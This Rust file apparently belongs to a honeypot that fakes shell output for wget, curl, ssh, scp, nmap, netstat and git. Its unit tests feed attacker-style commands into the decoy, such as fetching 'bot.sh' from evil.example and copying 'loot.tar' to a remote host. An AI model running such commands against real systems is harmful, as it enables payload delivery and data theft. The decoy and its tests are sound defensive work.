use crate::deception::interpreter::{CommandContext, CommandError, CommandOutput};
use crate::deception::parser::Invocation;

const HOST_ADDRESS: &str = "192.168.1.100";

const SSH_USAGE: &str = "usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy] [-B bind_interface]
           [-b bind_address] [-c cipher_spec] [-D [bind_address:]port]
           [-E log_file] [-e escape_char] [-F configfile] [-I pkcs11]
           [-i identity_file] [-J [user@]host[:port]] [-L address]
           [-l login_name] [-m mac_spec] [-O ctl_cmd] [-o option] [-p port]
           [-Q query_option] [-R address] [-S ctl_path] [-W host:port]
           [-w local_tun[:remote_tun]] destination [command]";

const LISTENING_SOCKETS: &str = "Active Internet connections (only servers)
Proto Recv-Q Send-Q Local Address           Foreign Address         State
tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN
tcp        0      0 127.0.0.1:25            0.0.0.0:*               LISTEN
tcp        0      0 127.0.0.1:3306          0.0.0.0:*               LISTEN
tcp6       0      0 :::80                   :::*                    LISTEN
tcp6       0      0 :::443                  :::*                    LISTEN
udp        0      0 0.0.0.0:68              0.0.0.0:*";

/// Host part of a URL such as `http://user@host:8080/path?x`.
fn url_host(url: &str) -> &str {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority.rsplit('@').next().unwrap_or(authority);
    host.split(':').next().unwrap_or(host)
}

/// Local file name a download would be saved under.
fn download_name(ctx: &mut CommandContext<'_>, url: &str) -> String {
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let path = rest.split(['?', '#']).next().unwrap_or(rest);
    let basename = path
        .split_once('/')
        .and_then(|(_, p)| p.rsplit('/').next())
        .filter(|name| !name.is_empty() && *name != "." && *name != "..");
    match basename {
        Some(name) => name.to_string(),
        None => format!(
            "download_{}_{}.bin",
            ctx.facts.now().timestamp(),
            ctx.facts.download_suffix()
        ),
    }
}

fn first_url(inv: &Invocation, skip_values_of: &[&str]) -> Option<String> {
    let mut args = inv.args.iter();
    while let Some(arg) = args.next() {
        if skip_values_of.contains(&arg.as_str()) {
            args.next();
        } else if !arg.starts_with('-') {
            return Some(arg.clone());
        }
    }
    None
}

pub fn wget(ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    let url = match first_url(inv, &["-O", "-o", "-P"]) {
        Some(url) => url,
        None if inv.args.is_empty() => {
            return Ok(CommandOutput::fail(
                "wget: missing URL\nUsage: wget [OPTION]... [URL]...",
            ))
        }
        None => "http://unknown.com/file".to_string(),
    };

    let name = match inv.option_value("-O") {
        Some(name) => name.to_string(),
        None => download_name(ctx, &url),
    };
    let size = ctx.facts.download_size();
    ctx.fs.add_binary_file(&name, size)?;

    let host = url_host(&url);
    let started = ctx.facts.now().format("%Y-%m-%d %H:%M:%S");
    Ok(CommandOutput::ok(format!(
        "--{started}--  {url}\n\
         Resolving {host} ({host})... {addr}\n\
         Connecting to {host} ({host})|{addr}|:80... connected.\n\
         HTTP request sent, awaiting response... 200 OK\n\
         Length: {size} ({kib:.1}K) [application/octet-stream]\n\
         Saving to: '{name}'\n\n\
         {name:<20}100%[===================>] {size:>7}  --.-KB/s    in 0s\n\n\
         {started} ({size} B/s) - '{name}' saved [{size}/{size}]",
        started = started,
        url = url,
        host = host,
        addr = HOST_ADDRESS,
        size = size,
        kib = size as f64 / 1024.0,
        name = name,
    )))
}

pub fn curl(ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    let Some(url) = first_url(inv, &["-o", "-H", "-d", "-A", "-X", "-u"]) else {
        return Ok(CommandOutput::fail(
            "curl: try 'curl --help' or 'curl --manual' for more information",
        ));
    };

    let name = match inv.option_value("-o") {
        Some(name) => name.to_string(),
        None => download_name(ctx, &url),
    };
    let size = ctx.facts.download_size();
    ctx.fs.add_binary_file(&name, size)?;
    Ok(CommandOutput::ok(format!(
        "Downloaded {} bytes to {}",
        size, name
    )))
}

pub fn ifconfig(ctx: &mut CommandContext<'_>, _inv: &Invocation) -> Result<CommandOutput, CommandError> {
    let c = ctx.facts.interface_counters();
    Ok(CommandOutput::ok(format!(
        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        \
         inet {addr}  netmask 255.255.255.0  broadcast 192.168.1.255\n        \
         inet6 fe80::20c:29ff:fe12:3456  prefixlen 64  scopeid 0x20<link>\n        \
         ether 00:0c:29:12:34:56  txqueuelen 1000  (Ethernet)\n        \
         RX packets {}  bytes {}\n        \
         TX packets {}  bytes {}\n\n\
         lo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        \
         inet 127.0.0.1  netmask 255.0.0.0\n        \
         inet6 ::1  prefixlen 128  scopeid 0x10<host>\n        \
         loop  txqueuelen 1000  (Local Loopback)",
        c.rx_packets,
        c.rx_bytes,
        c.tx_packets,
        c.tx_bytes,
        addr = HOST_ADDRESS,
    )))
}

pub fn netstat(ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    if inv.has_flag('l') || inv.has_flag('a') {
        return Ok(CommandOutput::ok(LISTENING_SOCKETS));
    }
    let mut lines = vec![
        "Active Internet connections (w/o servers)".to_string(),
        "Proto Recv-Q Send-Q Local Address           Foreign Address         State".to_string(),
    ];
    for peer in ["192.168.1.50", "192.168.1.51"] {
        let foreign = format!("{}:{}", peer, ctx.facts.peer_port());
        lines.push(format!(
            "tcp        0      0 {:<23} {:<23} ESTABLISHED",
            format!("{}:22", HOST_ADDRESS),
            foreign
        ));
    }
    Ok(CommandOutput::ok(lines.join("\n")))
}

pub fn ssh(_ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    let Some(destination) = first_url(inv, &["-p", "-i", "-l", "-o", "-F"]) else {
        return Ok(CommandOutput::fail(SSH_USAGE));
    };
    let port = inv.option_value("-p").unwrap_or("22");
    let host = destination.rsplit('@').next().unwrap_or(&destination);
    Ok(CommandOutput::fail(format!(
        "ssh: connect to host {} port {}: Connection refused",
        host, port
    )))
}

pub fn scp(_ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    let remote = inv
        .operands
        .iter()
        .find_map(|op| op.split_once(':').map(|(host, _)| host));
    Ok(CommandOutput::fail(match remote {
        Some(host) => format!(
            "ssh: connect to host {} port 22: Connection timed out\nlost connection",
            host.rsplit('@').next().unwrap_or(host)
        ),
        None if inv.operands.len() < 2 => {
            "usage: scp [-346BCpqrv] [-c cipher] [-F ssh_config] [-i identity_file]\n           \
             [-l limit] [-o ssh_option] [-P port] [-S program]\n           \
             [[user@]host1:]file1 ... [[user@]host2:]file2"
                .to_string()
        }
        None => format!(
            "cp: cannot stat '{}': No such file or directory",
            inv.operands[0]
        ),
    }))
}

pub fn nmap(ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    if inv.operands.is_empty() {
        return Ok(CommandOutput::fail(
            "Nmap 7.60 ( https://nmap.org )\nUsage: nmap [Scan Type(s)] [Options] {target specification}",
        ));
    }
    let started = ctx.facts.now().format("%Y-%m-%d %H:%M");
    Ok(CommandOutput::fail(format!(
        "Starting Nmap 7.60 ( https://nmap.org ) at {} UTC\n\
         Note: Host seems down. If it is really up, but blocking our ping probes, try -Pn\n\
         Nmap done: 1 IP address (0 hosts up) scanned in 3.00 seconds",
        started
    )))
}

/// `git clone` leaves an empty checkout directory behind.
pub fn git(ctx: &mut CommandContext<'_>, inv: &Invocation) -> Result<CommandOutput, CommandError> {
    if inv.has_long_flag("version") {
        return Ok(CommandOutput::ok("git version 2.17.1"));
    }
    let Some(sub) = inv.operands.first() else {
        return Ok(CommandOutput::ok(
            "usage: git [--version] [--help] [-C <path>] [-c <name>=<value>]\n           \
             <command> [<args>]",
        ));
    };

    match (sub.as_str(), inv.operands.get(1)) {
        ("clone", Some(repo)) => {
            let name = inv.operands.get(2).cloned().unwrap_or_else(|| {
                let last = repo.trim_end_matches('/').rsplit(['/', ':']).next().unwrap_or(repo);
                last.trim_end_matches(".git").to_string()
            });
            ctx.fs.mkdir(&name);
            Ok(CommandOutput::ok(format!(
                "Cloning into '{}'...\n\
                 remote: Enumerating objects: 100, done.\n\
                 remote: Total 100 (delta 0), reused 0 (delta 0)\n\
                 Receiving objects: 100% (100/100), 1.20 MiB | 2.40 MiB/s, done.",
                name
            )))
        }
        ("clone", None) => Ok(CommandOutput::fail(
            "fatal: You must specify a repository to clone.",
        )),
        (other, _) => Ok(CommandOutput::fail(format!(
            "git: '{}' is not a git command. See 'git --help'.",
            other
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::deception::facts::SampledFacts;
    use crate::deception::filesystem::VirtualFs;
    use crate::deception::interpreter::CommandInterpreter;
    use chrono::{TimeZone, Utc};

    fn shell() -> (CommandInterpreter, VirtualFs, SampledFacts) {
        let clock = Utc.with_ymd_and_hms(2024, 1, 15, 10, 0, 0).unwrap();
        (
            CommandInterpreter::default(),
            VirtualFs::default(),
            SampledFacts::seeded(11, clock),
        )
    }

    #[test]
    fn test_url_helpers() {
        assert_eq!(url_host("http://evil.example:8080/x.sh"), "evil.example");
        assert_eq!(url_host("ftp://bob@10.0.0.1/pub"), "10.0.0.1");
        assert_eq!(url_host("evil.example/bot"), "evil.example");
    }

    #[test]
    fn test_wget_saves_placeholder() {
        let (interp, mut fs, mut facts) = shell();
        let out = interp.execute("wget http://evil.example/bot.sh", &mut fs, &mut facts);
        assert!(out.success);
        assert!(out.output.starts_with("--2024-01-15 10:00:00--  http://evil.example/bot.sh"));
        assert!(out.output.contains("Saving to: 'bot.sh'"));
        let stored = fs.read("/home/user/bot.sh").unwrap();
        assert!(stored.starts_with("<binary data ("));
    }

    #[test]
    fn test_download_without_basename() {
        let (interp, mut fs, mut facts) = shell();
        let out = interp.execute("curl http://evil.example", &mut fs, &mut facts);
        assert!(out.success);
        let name = out.output.rsplit(' ').next().unwrap().to_string();
        assert!(name.starts_with("download_1705312800_"));
        assert!(name.ends_with(".bin"));
        assert!(fs.exists(&name));

        let out = interp.execute("curl -o /tmp/k http://evil.example/a", &mut fs, &mut facts);
        assert!(out.output.ends_with("to /tmp/k"));
        assert!(!interp.execute("wget", &mut fs, &mut facts).success);
    }

    #[test]
    fn test_download_into_file_path_fails_internally() {
        let (interp, mut fs, mut facts) = shell();
        let out = interp.execute("wget -O README.txt/x http://a/b", &mut fs, &mut facts);
        assert!(!out.success);
        assert!(out.output.starts_with("bash: error executing command:"));
    }

    #[test]
    fn test_remote_access_fails() {
        let (interp, mut fs, mut facts) = shell();
        let out = interp.execute("ssh root@10.0.0.5", &mut fs, &mut facts);
        assert_eq!(
            out,
            CommandOutput::fail("ssh: connect to host 10.0.0.5 port 22: Connection refused")
        );
        assert!(interp.execute("ssh", &mut fs, &mut facts).output.starts_with("usage: ssh"));
        let out = interp.execute("scp loot.tar bob@10.0.0.9:/tmp", &mut fs, &mut facts);
        assert!(out.output.starts_with("ssh: connect to host 10.0.0.9 port 22: Connection timed out"));
        assert!(!interp.execute("nmap 10.0.0.0/24", &mut fs, &mut facts).success);
    }

    #[test]
    fn test_socket_tables() {
        let (interp, mut fs, mut facts) = shell();
        assert!(interp
            .execute("netstat -tuln", &mut fs, &mut facts)
            .output
            .contains(":::80"));
        let established = interp.execute("netstat", &mut fs, &mut facts).output;
        assert_eq!(established.matches("ESTABLISHED").count(), 2);
        assert!(interp
            .execute("ifconfig", &mut fs, &mut facts)
            .output
            .contains("inet 192.168.1.100"));
    }

    #[test]
    fn test_git_clone_creates_directory() {
        let (interp, mut fs, mut facts) = shell();
        let out = interp.execute("git clone https://github.com/x/kit.git", &mut fs, &mut facts);
        assert!(out.output.starts_with("Cloning into 'kit'..."));
        assert!(fs.is_directory("/home/user/kit"));
        assert!(!interp.execute("git push", &mut fs, &mut facts).success);
        assert_eq!(interp.execute("git --version", &mut fs, &mut facts).output, "git version 2.17.1");
    }
}
